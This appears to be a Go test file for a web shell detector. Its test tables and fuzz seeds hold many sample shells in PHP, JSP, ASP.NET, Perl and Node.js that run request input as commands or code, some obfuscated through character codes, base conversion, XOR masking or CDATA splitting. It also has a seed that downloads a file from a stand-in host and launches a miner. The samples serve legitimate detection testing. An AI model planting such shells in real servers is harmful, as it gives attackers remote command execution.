		{"JSP reflective call of a harmless method named by codes", "/var/lib/tomcat9/webapps/ROOT/rg.jsp", "<%@ page import=\"java.lang.reflect.Method\" %>\n<%!\nString n(int[] c) { StringBuilder b = new StringBuilder(); for (int x : c) b.append((char) x); return b.toString(); }\n%>\n<%\nString q = request.getParameter(\"q\");\nMethod m = String.class.getMethod(n(new int[]{116,114,105,109}));\nout.print(org.apache.commons.text.StringEscapeUtils.escapeHtml4((String) m.invoke(q)));\n%>\n", "", ""},
		{"classic ASP request input stored by Dictionary Item", "/inetpub/wwwroot/dh.asp", "<%\nSet d = CreateObject(\"Scripting.Dictionary\")\nd.Item(\"k\") = Request.Form(\"c\")\nExecute d(\"k\")\n%>", RuleCode, "Execute()"},
		{"reflective assembly load", "/inetpub/wwwroot/r.aspx", `<%@ Page Language="C#" %><% byte[] d = System.Convert.FromBase64String(Context.Request["k"]); typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>`, RuleClassLoad, "reflected Load()"},
		{"XSLT script block", "/inetpub/wwwroot/x.aspx", "<%@ Page Language=\"C#\" %><% string x = @\"<xsl:stylesheet xmlns:msxsl=\"\"urn:schemas-microsoft-com:xslt\"\"><msxsl:script language=\"\"JScript\"\" implements-prefix=\"\"u\"\"><![CDATA[function f() { eval(System.Web.HttpContext.Current.Request.Item['a'], 'unsafe'); }]]></msxsl:script></xsl:stylesheet>\"; var t = new System.Xml.Xsl.XslCompiledTransform(); %>", RuleCode, "XSLT script"},
		{"request read hidden in a literal", "/inetpub/wwwroot/j.aspx", "<%@ Page Language=\"Jscript\" %><% function w(s) { return eval(s, \"unsafe\"); } w(w(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"UmVxdWVzdC5JdGVtWyJ6Il0=\")))); %>", RuleCode, "eval()"},
		{"JSP reflection on byte-array names", "/srv/tomcat/webapps/ROOT/r.jsp", `<% String q = request.getParameter("q"); Class rt = Class.forName(new String(new byte[] {106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101})); rt.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class).invoke(rt.getMethod("getRuntime").invoke(null), q); %>`, RuleCommand, "reflected exec()"},
		{"Perl pipe open of a request-named program", "/usr/lib/cgi-bin/v.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nopen(my $fh, '-|', $q->param('p'), '--version');\n", RuleCommand, "open(|)"},
		{"Perl two-argument pipe open", "/usr/lib/cgi-bin/v2.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nopen(P, \"$c |\");\nprint <P>;\n", RuleCommand, "open(|)"},
		{"Perl list system with a shell", "/usr/lib/cgi-bin/v3.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nsystem('/bin/sh', '-c', $q->param('c'));\n", RuleCommand, "system()"},

		// the application's own use of the request
		{"Perl list-form pipe open with request arguments", "/usr/share/gitweb/index.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $cgi = CGI->new;\nmy $h = $cgi->param('h');\nmy $git_dir = $cgi->param('p');\nsub git_cmd { return $GIT, '--git-dir=' . $git_dir; }\nopen my $fd, '-|', git_cmd(), 'log', $h or die;\nsystem('git', 'show', $h);\n", "", ""},
		{"Perl shell-quoted command", "/usr/share/gitweb/q.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $cgi = CGI->new;\nmy $h = $cgi->param('h');\nsub quote_command { return join(' ', map { my $a = $_; $a =~ s/(['!])/'\\\\$1'/g; \"'$a'\" } @_); }\nmy $cmd = quote_command('git', 'archive', $h);\nopen my $fd, '-|', $cmd or die;\n", "", ""},
		{"Perl program below a fixed directory", "/usr/lib/cgi-bin/w.cgi", "#!/usr/bin/perl\nmy $path = $ENV{PATH_INFO};\n$path =~ s!/!!g;\n$path = \"$ENV{HOME}/.wrappers/$path\";\nexec $path;\n", "", ""},
		{"Perl module", "/usr/share/perl5/Web/Helper.pm", "package Web::Helper;\nuse CGI;\nsub run { my $q = CGI->new; eval $q->param('x'); system($q->param('c')); }\n1;\n", "", ""},
		{"Perl subs keep their own arguments", "/usr/lib/cgi-bin/s2.pl", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nsub show { my $v = shift; print $v; }\nsub load { my $m = shift; eval \"require $m\"; }\nshow($q->param('n'));\nload('Data::Dumper');\n", "", ""},
		{"Python list subprocess", "/usr/lib/cgi-bin/l.py", "#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.call(['git', 'log', form.getvalue('h')])\n", "", ""},
		{"upload below the application's directory", "/var/www/html/media.php", `<?php $dir = wp_upload_dir(); move_uploaded_file($_FILES['f']['tmp_name'], $dir['path'] . '/' . $_FILES['f']['name']); move_uploaded_file($_FILES['g']['tmp_name'], UPLOADS . basename($_FILES['g']['name'])); ?>`, "", ""},
		{"callback passed in by the caller", "/var/www/html/util.php", `<?php function apply($escape, $v) { return $escape($v); } echo apply('htmlspecialchars', $_GET['q']); ?>`, "", ""},
		{"callback registered on an object", "/var/www/html/tax.php", `<?php foreach ($_POST['tax'] as $t => $terms) { $o = get_taxonomy($t); call_user_func_array($o->sanitize_cb, array($t, $terms)); } ?>`, "", ""},
		{"documentation example", "/usr/share/doc/php-x/examples/demo.php", `<?php system($_GET['c']); ?>`, "", ""},
		{"interpreter binary holding a PHP tag", "/usr/bin/php8.2", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00<?php system($_GET['c']); ?>", "", ""},

		{"name from a walked array's keys and values", "/var/www/html/w.php", `<?php function runner($part, $head) { $call = $head . $part; $call($_COOKIE['c']); } $pieces = ['sys' => 'tem']; array_walk($pieces, 'runner'); ?>`,
			RuleCommand, "system() via $call (built from the literals the function is passed)"},
		{"name from literal arguments", "/var/www/html/w2.php", `<?php function go($a, $b) { $f = $a . $b; $f($_POST['x']); } go('pass', 'thru'); go('str', 'len'); ?>`,
			RuleCommand, "passthru()"},
		{"name from a mapped array's values", "/var/www/html/w3.php", `<?php function h($p) { $g = 'as' . $p; $g($_REQUEST['q']); } $l = array('sert', 'tring'); array_map('h', $l); ?>`,
			RuleCode, "assert()"},
		{"function names in any case", "/var/www/html/m.php", "<?php $p = gEtEnV('HTTP_X_RUN'); pAsStHrU($p); ?>", RuleCommand, "passthru()"},
		// Node.js
		{"express route into exec", "/srv/app/server.js", "const express = require('express');\nconst { exec } = require('child_process');\nconst app = express();\napp.get('/health', (req, res) => {\n  const c = req.query.cmd;\n  if (c) { exec(c, (e, out) => res.send(out)); return; }\n  res.send('ok');\n});\n",
			RuleCommand, "Node.js web shell: request input runs a command through child_process.exec()"},
		{"request body evaluated", "/srv/app/debug.js", "const http = require('http');\nhttp.createServer((q, s) => {\n  let body = '';\n  q.on('data', d => body += d);\n  q.on('end', () => { s.end(String(eval(body))); });\n}).listen(9000);\n",
			RuleCode, "eval()"},
		{"renamed import into a shell", "/app/x.mjs", "import { spawn as run } from 'node:child_process';\nexport async function handler(request, reply) {\n  run('bash', ['-c', request.headers['x-debug']]);\n}\n",
			RuleCommand, "child_process.spawn()"},
		{"shell option", "/app/y.js", "const cp = require('child_process');\nmodule.exports = (req, res) => cp.spawn(req.body.prog, { shell: true });\n", RuleCommand, "with a shell"},
		{"koa context through a helper", "/app/z.js", "const vm = require('vm');\nfunction run(src) { return vm.runInNewContext(src); }\nrouter.post('/calc', async (ctx) => { ctx.body = run(ctx.request.body.expr); });\n",
			RuleCode, "vm.runInNewContext()"},
		{"request-named module", "/app/plugins.js", "app.use((req, res, next) => { const m = require(req.query.plugin); m(req, res, next); });\n", RuleInclude, "require()"},
		{"serverless event", "/var/task/index.js", "const { execSync } = require('child_process');\nexports.handler = async (event) => ({ body: execSync(event.queryStringParameters.c).toString() });\n", RuleCommand, "execSync"},
		{"function taken from the module", "/srv/www/index.js", "var http = require('http'), url = require('url');\nvar exec = require('child_process').exec;\nhttp.createServer(function (req, res) {\n  var q = url.parse(req.url, true).query;\n  exec(q.cmd, function (e, so, se) { res.end(so + se); });\n}).listen(8888);\n",
			RuleCommand, "child_process.exec()"},
		{"module reached through process.mainModule", "/srv/www/x.js", "module.exports = function (req, res) { res.end(process.mainModule.require('child_process').execSync(req.query.c).toString()); };\n",
			RuleCommand, "child_process.execSync()"},
		{"regular expression exec", "/srv/app/router.js", "const cp = require('child_process');\nconst re = /^\\/api\\/(\\w+)/;\napp.get('*', (req, res) => { const m = re.exec(req.url); cp.execFile('/usr/bin/uptime', (e, out) => res.send(m[1] + out)); });\n", "", ""},
		{"program fixed, request value an argument", "/srv/app/git.js", "const { execFile } = require('child_process');\napp.get('/log', (req, res) => execFile('git', ['log', '--format=%H', req.query.ref], (e, out) => res.send(out)));\n", "", ""},
		{"constant command and parsed body", "/srv/app/status.js", "const { exec } = require('child_process');\napp.post('/s', (req, res) => { const n = parseInt(req.body.n, 10); exec('uptime', (e, o) => res.json({ n, o })); });\n", "", ""},
		{"library running its caller's command", "/usr/share/nodejs/shelljs/src/exec.js", "var child = require('child_process');\nfunction execSync(cmd, opts) { return child.execSync(cmd, opts); }\nmodule.exports = execSync;\n", "", ""},
		{"browser XHR response", "/srv/www/static/app.js", "var request = new XMLHttpRequest();\nrequest.onload = function () { eval(request.responseText); };\nrequest.open('GET', '/bundle.js');\nrequest.send();\n", "", ""},

		// Callbacks written in place are handed the data the builtin is given.
		{"inline preg_replace_callback", "/var/www/html/c1.php", "<?php\n$t = $_GET['t'];\necho preg_replace_callback('/^.*$/', function ($hit) {\n    return shell_exec($hit[0]);\n}, $t);\n", RuleCommand, "shell_exec()"},
		{"inline array_walk by reference", "/var/www/html/c2.php", "<?php $list = array($_COOKIE['j']); array_walk($list, function (&$item, $key) { passthru($item); });", RuleCommand, "passthru()"},
		{"inline array_reduce arrow", "/var/www/html/c3.php", "<?php array_reduce([$_POST['r']], fn($acc, $cur) => system($cur), '');", RuleCommand, "system()"},
		{"inline callbacks that escape", "/var/www/html/c4.php", "<?php array_walk($_POST, function (&$v) { $v = htmlspecialchars($v); });\necho preg_replace_callback('/[a-z]+/', function ($m) { return ucfirst($m[0]); }, $_GET['s']);", "", ""},
		// Names folded the way the code computes them.
		{"assignment in parentheses", "/var/www/html/n1.php", "<?php ($g = 'assert') && ($w = $_POST['w']) && call_user_func($g, $w);", RuleCode, "assert()"},
		{"name in another base", "/var/www/html/n2.php", "<?php $n = base_convert('1982613383994', 10, 36);\n$n($_GET['c']);", RuleCommand, "passthru()"},
		{"name from character codes", "/var/www/html/n3.php", "<?php $k = implode('', array_map('chr', [115, 121, 115, 116, 101, 109])); $k($_REQUEST['k']);", RuleCommand, "system()"},
		{"closure from a callable name", "/var/www/html/n4.php", "<?php $r = Closure::fromCallable('shell' . '_exec'); echo $r($_SERVER['HTTP_X_Q']);", RuleCommand, "shell_exec()"},
		{"harmless name in another base", "/var/www/html/n5.php", "<?php $id = base_convert($_GET['id'], 36, 10); $f = base_convert('29234652', 10, 36); echo $f($id);", "", ""},
		// Output buffered into a command.
		{"output buffer callback", "/var/www/html/o1.php", "<?php ob_start('pass' . 'thru');\nprint $_REQUEST['x'];\nob_end_flush();", RuleCommand, "passthru() via ob_start()"},
		{"output compression", "/var/www/html/o2.php", "<?php ob_start('ob_gzhandler'); echo htmlspecialchars($_GET['x']);", "", ""},
		// An object's property set from the request is what its methods read as $this->prop.
		{"property read by a destructor", "/var/www/html/p1.php", "<?php\nclass Job { public $spec; function __destruct() { system($this->spec); } }\n$j = new Job();\n$j->spec = $_POST['spec'];\n", RuleCommand, "system()"},
		{"property that picks a registered callback", "/var/www/html/p3.php", "<?php class Screen { public $id; public $tabs = array(); function render() { foreach ($this->tabs[$this->id] as $t) { call_user_func_array($t['callback'], array($this, $t)); } } }\n$s = new Screen(); $s->id = $_REQUEST['post_type']; $s->render();", "", ""},
		{"property escaped by a method", "/var/www/html/p2.php", "<?php class U { public $name; function show() { echo htmlspecialchars($this->name); } }\n$u = new U(); $u->name = $_POST['n']; $u->show();", "", ""},
		// A file the page writes from the request, then includes.
		{"request body written then included", "/var/www/html/w1.php", "<?php file_put_contents('/var/tmp/.c.php', $_POST['c']);\ninclude '/var/tmp/.c.php';", RuleInclude, "uploaded file or the request body"},
		{"upload moved then required", "/var/www/html/w2.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/tmp/plugin.php');\nrequire_once('/tmp/plugin.php');", RuleInclude, "include"},
		{"generated cache included", "/var/www/html/w3.php", "<?php $cfg = array('a' => 1); file_put_contents('/tmp/cfg.php', '<?php return ' . var_export($cfg, true) . ';'); $c = include '/tmp/cfg.php'; echo $_GET['x'];", "", ""},
		// JSP: objects built from XML, classes from the network, names the page decodes.
		{"XMLDecoder of the request body", "/var/lib/tomcat9/webapps/ROOT/x1.jsp", "<%\njava.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream());\nd.readObject();\n%>\n", RuleCode, "XMLDecoder"},
		{"classes fetched from the network", "/var/lib/tomcat9/webapps/ROOT/x2.jsp", "<%@ page import=\"java.net.*\" %>\n<%\nURLClassLoader l = new URLClassLoader(new URL[] { new URL(\"https://cdn.example.net/lib/p.jar\") });\nout.print(l.loadClass(\"P\").getConstructor(String.class).newInstance(request.getParameter(\"q\")));\n%>\n", RuleClassLoad, "URLClassLoader"},
		{"classes from a local directory", "/var/lib/tomcat9/webapps/ROOT/x3.jsp", "<%@ page import=\"java.net.*\" %>\n<%\nURLClassLoader l = new URLClassLoader(new URL[] { new URL(\"file:/opt/app/plugins/\") });\nout.print(l.loadClass(\"Report\").getName() + request.getParameter(\"q\").length());\n%>\n", "", ""},
		{"reflection on a name the page decodes", "/var/lib/tomcat9/webapps/ROOT/x4.jsp", "<%!\nString unmask(String s) { StringBuilder b = new StringBuilder(); for (char c : s.toCharArray()) b.append((char) (c ^ 7)); return b.toString(); }\n%>\n<%\nClass<?> k = Class.forName(unmask(\"mfqf)kfi`)Urisnjb\"));\nObject rt = k.getMethod(unmask(\"`bsUrisnjb\")).invoke(null);\nk.getMethod(unmask(\"b\u007fbd\"), String.class).invoke(rt, request.getHeader(\"X-T\"));\n%>\n", RuleCode, "unmask()"},
		{"JSP document with character references", "/var/lib/tomcat9/webapps/ROOT/x5.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">\n<jsp:scriptlet>\nString v = request.getParameter(\"v\");\nRuntime.&#x67;&#x65;&#x74;&#82;&#117;&#110;&#116;&#105;&#109;&#101;().&#x65;&#x78;&#x65;&#x63;(v);\n</jsp:scriptlet>\n</jsp:root>\n", RuleCommand, "Runtime.exec()"},
		{"JSP document split by CDATA sections", "/var/lib/tomcat9/webapps/ROOT/y1.jspx", "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">\n<jsp:scriptlet>\nString q = request.getHeader(\"X-Q\");\nnew Pro<![CDATA[cessBui]]>lder(\"sh\", \"-c\", q).start();\n</jsp:scriptlet>\n</jsp:root>\n", RuleCommand, "ProcessBuilder"},
		{"stylesheet from the request body", "/var/lib/tomcat9/webapps/ROOT/y2.jsp", "<%\njava.io.InputStream in = request.getInputStream();\njavax.xml.transform.Transformer t = javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream.StreamSource(in));\nt.transform(new javax.xml.transform.stream.StreamSource(new java.io.StringReader(\"<a/>\")), new javax.xml.transform.stream.StreamResult(out));\n%>\n", RuleCode, "XSLT newTransformer()"},
		{"stylesheet of the application, parameter from the request", "/var/lib/tomcat9/webapps/ROOT/y3.jsp", "<%\njavax.xml.transform.Transformer t = javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream.StreamSource(application.getRealPath(\"/WEB-INF/list.xsl\")));\nt.setParameter(\"q\", request.getParameter(\"q\"));\nt.transform(new javax.xml.transform.stream.StreamSource(application.getRealPath(\"/WEB-INF/list.xml\")), new javax.xml.transform.stream.StreamResult(out));\n%>\n", "", ""},
		{"JNDI name from the request", "/var/lib/tomcat9/webapps/ROOT/y4.jsp", "<%\njavax.naming.Context ctx = new javax.naming.InitialContext();\nObject o = ctx.lookup(request.getParameter(\"res\"));\nout.print(o);\n%>\n", RuleClassLoad, "JNDI lookup()"},
		{"JNDI resource of the application", "/var/lib/tomcat9/webapps/ROOT/y5.jsp", "<%\njavax.naming.Context ctx = new javax.naming.InitialContext();\njavax.sql.DataSource ds = (javax.sql.DataSource) ctx.lookup(\"java:comp/env/jdbc/app\");\nout.print(cache.lookup(request.getParameter(\"k\")));\n%>\n", "", ""},
		{"JDK launcher reached by reflection", "/var/lib/tomcat9/webapps/ROOT/y6.jsp", "<%\nClass<?> m = Class.forName(\"sun.net.www.MimeLauncher\");\njava.lang.reflect.Field f = m.getDeclaredField(\"execPath\");\nf.setAccessible(true);\nString c = request.getParameter(\"c\");\n%>\n", RuleCommand, "MimeLauncher"},
		{"Java variable named in", "/var/lib/tomcat9/webapps/ROOT/y7.jsp", "<%\njava.io.InputStream in = new java.io.ByteArrayInputStream(request.getParameter(\"c\").getBytes());\nRuntime.getRuntime().exec(new String(in.readAllBytes()));\n%>\n", RuleCommand, "Runtime.exec()"},
		{"builder filled by a chain of calls", "/var/lib/tomcat9/webapps/ROOT/z1.jsp", "<%\nStringBuilder b = new StringBuilder();\nfor (String w : request.getParameter(\"w\").split(\",\")) { b.append(\"'\").append(w).append(\"' \"); }\nRuntime.getRuntime().exec(new String[] {\"/bin/sh\", \"-c\", b.toString()});\n%>\n", RuleCommand, "Runtime.exec()"},
		{"EL text built around request input", "/var/lib/tomcat9/webapps/ROOT/z2.jsp", "<%\nString e = \"''.getClass().forName('java.lang.Runtime')\" + request.getParameter(\"e\");\njavax.el.ELContext c = new javax.el.ELManager().getELContext();\njavax.el.ELManager.getExpressionFactory().createValueExpression(c, \"#{\" + e + \"}\", Object.class).getValue(c);\n%>\n", RuleCode, "EL createValueExpression()"},
		{"EL expression reaching a process", "/var/lib/tomcat9/webapps/ROOT/x6.jsp", "<%@ page isELIgnored=\"false\" %>\n<p>${\"\".getClass().forName(\"java.lang.ProcessBuilder\").getConstructor(\"\".getClass().forName(\"[Ljava.lang.String;\")).newInstance(paramValues.c).start()}</p>\n", RuleCommand, "EL expression"},
		{"EL expressions reading parameters", "/var/lib/tomcat9/webapps/ROOT/x7.jsp", "<%@ taglib prefix=\"fn\" uri=\"http://java.sun.com/jsp/jstl/functions\" %>\n<p>${fn:escapeXml(param.name)}</p><p>${header['User-Agent']}</p><% out.print(request.getParameter(\"x\") != null); %>\n", "", ""},

		// never code: comments, doc blocks, strings
		{"doc comment backticks", "/usr/share/wordpress/wp-admin/includes/file.php", "<?php\n/**\n * Handles `$_POST['action']` and runs `system($_GET['x'])` in markdown.\n */\n// eval($_POST['x']);\n# system($_GET['c']);\n$msg = 'system($_GET[\"c\"])';\necho $msg;\n", "", ""},
		{"escaped command", "/var/www/html/thumb.php", `<?php $f = $_GET['file']; exec('convert ' . escapeshellarg($f) . ' out.png'); ?>`, "", ""},
		{"include from the app directory", "/var/www/html/lang.php", `<?php $l = $_GET['lang']; include __DIR__ . '/lang/' . $l . '.php'; ?>`, "", ""},
		{"dispatch table", "/var/www/html/ajax.php", `<?php $actions = array('a' => 'do_a'); $fn = $actions[$_POST['action']]; call_user_func($fn); ?>`, "", ""},
		{"object from request", "/var/www/html/o.php", `<?php $c = new Controller($_REQUEST['db']); echo $c(['x' => 1]); ?>`, "", ""},
		{"ERB template", "/app/views/index.html.erb", `<% @items.each do |i| %><li><%= i.name %></li><% end %>`, "", ""},
		{"plain script", "/usr/bin/tool.py", "#!/usr/bin/python3\nimport os, sys\nos.system(sys.argv[1])\n", "", ""},
		{"not a CGI script", "/usr/bin/pygettext3", "#! /usr/bin/python3\n# -*- coding: iso-8859-1 -*-\nimport sys\nhdr = 'Content-Type: text/plain; charset=\xe9'\ndef safe_eval(s):\n    return eval(s, {}, {})\nfor line in sys.stdin:\n    safe_eval(line)\n", "", ""},
	}
	a := New()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := a.Analyze(tc.path, []byte(tc.src))
			b := best(fs)
			if tc.rule == "" {
				if b != nil && b.Severity >= audit.Medium {
					t.Fatalf("want nothing at medium or above, got:%s", dump(fs))
				}
				return
			}
			var got *audit.Finding
			for i := range fs {
				if fs[i].Rule == tc.rule {
					got = &fs[i]
				}
			}
			if got == nil {
				t.Fatalf("want %s, got:%s", tc.rule, dump(fs))
			}
			if got.Category != audit.CategoryWebshell || !strings.Contains(got.Title, tc.title) {
				t.Errorf("got %s %q, want webshell with %q", got.Category, got.Title, tc.title)
			}
			want := audit.Critical
			switch got.Rule {
			case RuleWrite:
				want = audit.High
			case RuleDynamic, RuleHidden:
				want = audit.Medium
			case RuleInclude:
				want = got.Severity
			}
			if got.Severity != want {
				t.Errorf("severity %s, want %s", got.Severity, want)
			}
		})
	}
}

// TestSamples runs the page samples in testdata: every pos sample is a web shell, every neg
// sample is not.
func TestSamples(t *testing.T) {
	a := New()
	for _, dir := range []string{"pos", "neg"} {
		files, err := filepath.Glob(filepath.Join("testdata", dir, "*"))
		if err != nil || len(files) == 0 {
			t.Fatalf("no samples in testdata/%s: %v", dir, err)
		}
		for _, f := range files {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			fs := a.Analyze("/var/www/"+filepath.Base(f), data)
			b := best(fs)
			switch {
			case dir == "pos" && (b == nil || b.Severity < audit.High || b.Category != audit.CategoryWebshell):
				t.Errorf("%s: no web shell found:%s", f, dump(fs))
			case dir == "neg" && b != nil && b.Severity >= audit.Medium:
				t.Errorf("%s: clean page flagged:%s", f, dump(fs))
			}
		}
	}
}

func TestBigPage(t *testing.T) {
	data := []byte("<?php system($_GET['c']); ?>" + strings.Repeat("<p>filler</p>\n", MaxPage/14+1))
	fs := New().Analyze("/var/www/big.php", data)
	if len(fs) != 1 || fs[0].Rule != RuleSkipped || !strings.Contains(fs[0].Title, "not analysed") {
		t.Fatalf("a page over the limit must be reported as not analysed, got:%s", dump(fs))
	}
}

func TestNotPages(t *testing.T) {
	a := New()
	for _, tc := range []struct{ path, src string }{
		{"/usr/share/doc/x/README", "Call system($_GET['c']) to ... <? not php"},
		{"/etc/config.xml", `<?xml version="1.0"?><a>$_GET</a>`},
		{"/usr/share/x/template.ejs", `<% if (user) { %><h2><%= user.name %></h2><% } %>`},
	} {
		if fs := a.Analyze(tc.path, []byte(tc.src)); len(fs) > 0 {
			t.Errorf("%s: %s", tc.path, dump(fs))
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{
		`<?php $c = $_GET['c']; system($c); function f($a) { return eval($a); } f($_POST[1]); $$x = $_GET; list($a, $b) = [$_GET, 1]; ?>`,
		`<% String c = request.getParameter("c"); new ProcessBuilder(c).start(); %>`,
		"<%\r\nx = Request(\"c\")\r\nExecute x\r\n%>",
		"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new; system($q->param('c'));\n",
		"GIF89a<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>",
		"<?php function g($n, $u) { $d = file_get_contents($u); $h = fopen(\"$_SERVER[DOCUMENT_ROOT]/$n\", 'w'); fwrite($h, $d); } g('a.php', 'https://x.example/s.txt');\n$c = sprintf('nohup %s -o %s -u %s --donate-level 1 &', escapeshellarg(__DIR__ . '/w'), $_GET['p'] ?? 'h:3333', 'x'); $c .= ' -t 2'; shell_exec($c); `$c`; ?>",
		"const { exec: run } = require('child_process'); import * as vm from 'vm';\napp.get('/x', (q, s) => { let b = ''; q.on('data', d => b += d); run(q.query.c); [b].forEach(eval); vm['runInNewContext'](b); });\n",
	} {
		f.Add("/var/www/a.php", []byte(s))
	}
	a := New()
	f.Fuzz(func(t *testing.T, p string, data []byte) {
		for _, name := range []string{p, "/var/www/x.php", "/srv/x.jsp", "/srv/x.aspx", "/srv/x.asp", "/usr/lib/cgi-bin/x.pl", "/usr/lib/cgi-bin/x.py", "/usr/lib/cgi-bin/x.rb", "/srv/app/x.js"} {
			for _, f := range a.Analyze(name, data) {
				if f.Rule == RuleSkipped && strings.Contains(f.Title, "analysis failed") {
					t.Fatalf("%s: %s", name, f.Evidence)
				}
			}
		}
	})
}

// A payload behind 600,000 tokens of padding is still reached (the lexer's bound is a
// million tokens, for memory).
func TestPaddedPage(t *testing.T) {
	page := "<?php $x=" + strings.Repeat(`"a".`, 300000) + `"b"; system($_GET[$x]);` + "\n"
	fs := New().Analyze("/var/www/html/pad.php", []byte(page))
	found := false
	for _, f := range fs {
		if f.Rule == "STRATA-WS-101" {
			found = true
		}
	}
	if !found {
		t.Errorf("the padded page's system($_GET) is not found: %d findings", len(fs))
	}
}

// TestNodeGate: which scripts the Node.js analysis reads at all. A script with a sink and a
// handler, or one that evaluates decoded code, is read; a library with neither is not (most
// of node_modules, at the cost of a few passes over each file).
func TestNodeGate(t *testing.T) {
	tests := []struct {
		src  string
		want bool
	}{
		{"const cp = require('child_process');\napp.get('/x', (a, b) => cp.exec(a.query.c));\n", true},
		{"module.exports = async function (request, reply) { return eval(request.body) }\n", true},
		{"exports.handler = async (e) => require('vm').runInThisContext(e.queryStringParameters.c)\n", true},
		{"const s = require('http').createServer(h); function h(q, r) { r.end(String(globalThis['ev' + 'al'](q.url))) }\n", true},
		{"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n", true},
		{"[x].forEach(eval)\nrouter.post('/run', function (req, res) {})\n", true},
		{"const m = require(name);\nmodule.exports = function handle(req, res, next) { next() }\n", true},
		// node-style callbacks and calls are no handlers; libraries without a sink are not read
		{"const cp = require('child_process');\nfs.readFile(p, function (err, res) { cb(null, res) });\n", false},
		{"const cp = require('child_process');\nfetchFinale(params, response);\n", false},
		{"const path = require('path');\napp.get('/x', (req, res) => res.send(path.join(req.query.a)));\n", false},
		{"var f = new Function('return this')();\n", false},
	}
	for _, tt := range tests {
		if got := nodeLang("/srv/app/x.js", ".js", []byte(tt.src), false) != nil; got != tt.want {
			t.Errorf("nodeLang(%q) = %v, want %v", tt.src, got, tt.want)
		}
	}
}

// TestBuiltNamesOfHarmlessFunctions: a name built from literals the function is passed that
// names no command or code runner stays a run-time name (WS-108 at most), never a command.
func TestBuiltNamesOfHarmlessFunctions(t *testing.T) {
	page := `<?php function fmt($k, $v) { $fn = 'str' . $k; return $fn($_GET['x']); } fmt('len', 1); fmt('rev', 2); $m = ['to' => 'upper']; array_walk($m, 'fmt'); ?>`
	for _, f := range New().Analyze("/var/www/html/fmt.php", []byte(page)) {
		if f.Rule == RuleCommand || f.Rule == RuleCode || f.Severity > audit.Medium {
			t.Errorf("%s %s: %s", f.Rule, f.Severity, f.Title)
		}
	}
}

// binaryWithPHP is n bytes of binary data (NULs and high bytes, a pattern file's "<?php"
// string near its start, as file's magic.mgc holds) with page appended.
func binaryWithPHP(n int, page string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i*131) &^ 0x20
		if i%7 == 0 {
			b[i] = 0
		}
	}
	copy(b[4096:], "\x00<?php\x00\x00php script text\x00")
	return string(b) + page
}
